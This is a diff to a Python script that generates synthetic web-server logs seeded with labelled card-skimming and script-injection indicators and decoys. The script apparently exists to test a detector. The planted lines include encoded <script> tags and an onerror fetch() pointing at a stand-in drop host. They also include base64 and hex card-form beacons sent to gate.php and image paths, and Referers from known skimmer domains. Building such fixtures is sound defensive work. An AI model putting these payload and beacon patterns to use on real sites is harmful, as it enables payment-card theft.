@@ -302,12 +302,12 @@ def web_plants(kind):
               ("/p?c=" + q(",".join(str(ord(c)) for c in "document.createElement")), "GET", "-", ["injected-script_charcode_list_query"], "char-code list in query", True),
               ("/p?x=" + q("".join("\\x%02x" % ord(c) for c in "//" + DROP)), "GET", "-", ["injected-script_hex_escape_run_query"], "\\x escape run in query", True),
               ("/p?x=" + q("var s=document.createElement('script')"), "GET", "-", ["injected-script_create_script_element_query"], "createElement('script') in query", True),
-              ("/go?u=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "GET", "-", ["injected-script_data_uri_script_query", "injected-script_base64_script_query"], "data:text/html base64 URI in query", True),
-              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload"], "base64 card form on image beacon", True),
-              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload"], "twin of base64 image beacon", False),
-              ("/img/pixel.gif?h=" + HEX_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload"], "hex card form on image beacon (hex is also base64 alphabet)", True),
-              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload"], "gate.php with base64 payload", True),
-              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload"], "twin of gate.php payload", False),
+              ("/go?u=" + q("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "GET", "-", ["injected-script_data_uri_script_query", "injected-script_base64_script_query", "injected-script_script_tag_query"], "data:text/html base64 URI in query", True),
+              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "base64 card form on image beacon", True),
+              ("/media/logo.png?d=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "twin of base64 image beacon", False),
+              ("/img/pixel.gif?h=" + HEX_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "hex card form on image beacon (hex is also base64 alphabet)", True),
+              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "gate.php with base64 payload", True),
+              ("/gate.php?data=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_gate_endpoint_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "twin of gate.php payload", False),
               ("/booking/confirm", "GET", "https://www.baways.com/gateway/app/dataprocessing", ["card-skimming_exfil_domain_web"], "Referer from baways.com", True),
               ("/booking/confirm", "GET", "https://www.baways.com/gateway/app/dataprocessing", ["card-skimming_exfil_domain_web"], "twin of baways.com Referer", False),
               ("/media/catalog/logo.png", "POST", "https://" + SITE + "/booking/payment", ["card-skimming_post_to_image_path"], "POST to an image path", True),
@@ -320,12 +320,44 @@ def web_plants(kind):
     if kind == "apache":
         p += [("/booking/payment", "GET", "https://" + SITE + "/booking/payment?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=", ["card-skimming_card_field_names_referer"], "card field names in Referer query", True),
               ("/booking/payment", "GET", "https://" + SITE + "/booking/payment?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=", ["card-skimming_card_field_names_referer"], "twin of card fields in Referer", False),
-              ("/img/banner.php?hash=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_known_drop_url_shape"], "hash= payload on a .php image gate", True),
+              ("/img/banner.php?hash=" + B64_PAYLOAD, "GET", "https://" + SITE + "/booking/payment", ["card-skimming_known_drop_url_shape", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "hash= payload on a .php image gate", True),
               ("/search?q=" + q("var _0x3f2a1b=['c2NyaXB0'];"), "GET", "-", ["injected-script_obfuscator_identifiers_query"], "_0x identifier in query", True),
               ("/search?q=" + q("var _0x3f2a1b=['c2NyaXB0'];"), "GET", "-", ["injected-script_obfuscator_identifiers_query"], "twin of _0x identifier", False),
-              ("/p?d=" + base64.b64encode(b"<script src=//" + DROP.encode() + b"/c.js></script>").decode().rstrip("="), "GET", "-", ["injected-script_base64_script_query"], "base64 <script> in query", True),
+              ("/p?d=" + base64.b64encode(b"<script src=//" + DROP.encode() + b"/c.js></script>").decode().rstrip("="), "GET", "-", ["injected-script_base64_script_query", "injected-script_script_tag_query"], "base64 <script> in query", True),
               ("/booking/pay?card=" + q(group4(GEN_MC)), "GET", "-", ["card-exposure_pan_in_web_request"], "generated Mastercard grouped in query", True)]
     return p
+
+
+def json_u(s):
+    """Every character of s as a JSON \\uXXXX escape."""
+    return "".join("\\u%04x" % ord(c) for c in s)
+
+
+def decode_plants():
+    """Encoded beacons for the decoding layers: (uri, referer, rules, what, in-window?) for nginx."""
+    form_u = '{"name":"A Traveller","card":"' + json_u(GEN_MC2) + '","src":"checkout"}'
+    url_b64 = q(base64.b64encode(form_u.encode()).decode())
+    fields_hex = json.dumps({"cardnumber": "", "cvv": "", "exp_month": "", "holder": "A Traveller"}, separators=(",", ":")).encode().hex()
+    script_b64 = base64.b64encode(("<script src=//" + DROP + "/c.js></script>").encode()).decode()
+    pan = ["card-skimming_encoded_json_card_number", "card-exposure_pan_in_web_request"]
+    return [
+        ("/api/v2/telemetry?ev=view&p=" + url_b64, "https://" + SITE + "/booking/payment", pan,
+         "URL-encoded base64 of JSON with \\u-escaped Mastercard on a telemetry URL (url, base64, json)", True),
+        ("/api/v2/telemetry?ev=view&p=" + url_b64, "https://" + SITE + "/booking/payment", pan,
+         "twin of URL-encoded base64 JSON card beacon", False),
+        ("/wp-includes/js/jquery/jquery.js?ver=" + fields_hex, "https://" + SITE + "/booking/payment", ["card-skimming_encoded_json_card_field_names"],
+         "hex JSON of card form-field names on a script URL", True),
+        ("/flights", "https://" + SITE + "/search?r=" + script_b64, ["injected-script_script_tag_referer"],
+         "base64 <script> in Referer query", True),
+    ]
+
+
+def decode_decoys():
+    state = base64.urlsafe_b64encode(json.dumps({"from": "LHR", "to": "JFK", "date": "2017-10-04", "pax": 2}, separators=(",", ":")).encode()).decode().rstrip("=")
+    claims = base64.urlsafe_b64encode(json.dumps({"sub": "visitor-4419", "scope": "checkout payment", "exp": 1507000000}, separators=(",", ":")).encode()).decode().rstrip("=")
+    jwt = JWT.split(".")[0] + "." + claims + "." + JWT.split(".")[2]
+    return [("/flights/search?state=" + state, "base64 JSON search state (no card data)"),
+            ("/booking/payment?session=" + jwt, "JWT with checkout scope on the payment page")]
 
 
 def web_decoys(kind, t):
@@ -362,6 +394,16 @@ def gen_combined(kind, rel, n_bg, tz, vhost, seed):
         for uri, what in web_decoys(kind, t):
             log.add(t, (rand_ip(rng), "GET", uri, 200, rng.randrange(40, 9000), "https://" + SITE + "/", rng.choice(UAS)), plant("decoy", [], what))
             t += dt.timedelta(seconds=rng.randrange(1, 600))
+    if kind == "nginx":
+        # Own generator, so adding these left every earlier line unchanged.
+        drng = random.Random(seed ^ 0x5EED)
+        for uri, ref, rules, what, inside in decode_plants():
+            t = window_time(drng) if inside else after_time(drng)
+            log.add(t, (rand_ip(drng), "GET", uri, 200, drng.randrange(40, 9000), ref, drng.choice(UAS)), plant("indicator", rules, what))
+        t = window_time(drng)
+        for uri, what in decode_decoys():
+            log.add(t, (rand_ip(drng), "GET", uri, 200, drng.randrange(40, 9000), "https://" + SITE + "/", drng.choice(UAS)), plant("decoy", [], what))
+            t += dt.timedelta(seconds=drng.randrange(1, 600))
     if kind == "apache":
         # The edge lines: local -0400 times either side of the window's UTC edges.
         inside = dt.datetime(2017, 9, 25, 21, 30, 0, tzinfo=EDT)
@@ -418,10 +460,10 @@ def gen_iis(seed):
     plants = [
         ("/search?q=" + q(q("<script src=//" + DROP + "/c.js></script>")), "GET", "-", ["injected-script_script_tag_query"], "double-encoded %253Cscript in IIS query"),
         ("/checkout/save?payment%5Bcc_number%5D=&payment%5Bcc_cid%5D=&billing%5Bcc_exp_year%5D=", "GET", "https://" + SITE + "/booking/payment", ["card-skimming_card_field_names_query"], "payment[cc_number] field names (empty) in query"),
-        ("/static/i.jpg?a=1&x=" + HEX_PAYLOAD.upper(), "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload"], "upper-case hex card form on .jpg beacon"),
+        ("/static/i.jpg?a=1&x=" + HEX_PAYLOAD.upper(), "GET", "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_hex_payload", "card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "upper-case hex card form on .jpg beacon"),
         ("/p?x=" + q("s.src='//" + DROP + "/c.js'"), "GET", "-", ["injected-script_remote_src_assignment_query"], "remote .src= assignment in query"),
         ("/booking/confirm", "GET", "https://magentocore.net/mage/mage.js", ["card-skimming_exfil_domain_web"], "Referer from magentocore.net"),
-        ("/media/gate.php?image_id=" + B64_PAYLOAD[:48], "GET", "-", ["card-skimming_known_drop_url_shape"], "/gate.php?image_id= drop"),
+        ("/media/gate.php?image_id=" + B64_PAYLOAD[:48], "GET", "-", ["card-skimming_known_drop_url_shape", "card-skimming_encoded_json_card_number", "card-exposure_pan_in_web_request"], "/gate.php?image_id= drop (base64 cut after the card number)"),
     ]
     for uri, m, ref, rules, what in plants:
         log.add(rt(), (rand_ip(rng), m, uri, 200, rng.randrange(40, 9000), ref, rng.choice(UAS)), plant("indicator", rules, what))
@@ -474,7 +516,7 @@ def gen_cloudfront(seed):
         m, uri, st, sz, ref, ua = bg_request(rng, t)
         log.add(t, (rand_ip(rng), m, uri, st, sz, ref, ua))
     plants = [
-        ("/favicon.ico?s=" + B64_PAYLOAD.rstrip("="), "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload"], "base64 card form on favicon.ico"),
+        ("/favicon.ico?s=" + B64_PAYLOAD.rstrip("="), "https://" + SITE + "/booking/payment", ["card-skimming_image_beacon_base64_payload", "card-skimming_encoded_json_card_with_expiry_cvv", "card-exposure_pan_in_web_request"], "base64 card form on favicon.ico"),
         ("/static/c.js?v=" + q("(function(_0x2c81f4){return _0x2c81f4})"), "-", ["injected-script_obfuscator_identifiers_query"], "_0x identifier in CDN query"),
         ("/scripts/app.js?cc=" + TEST_VISA, "https://" + SITE + "/booking/payment", ["card-exposure_pan_in_web_request"], "test Visa contiguous in query"),
         ("/scripts/app.js?x=" + q("<img src=x onerror=fetch('//" + DROP + "')>"), "-", ["injected-script_svg_img_tag", "injected-script_event_handler_attribute"], "<img onerror=> in query"),
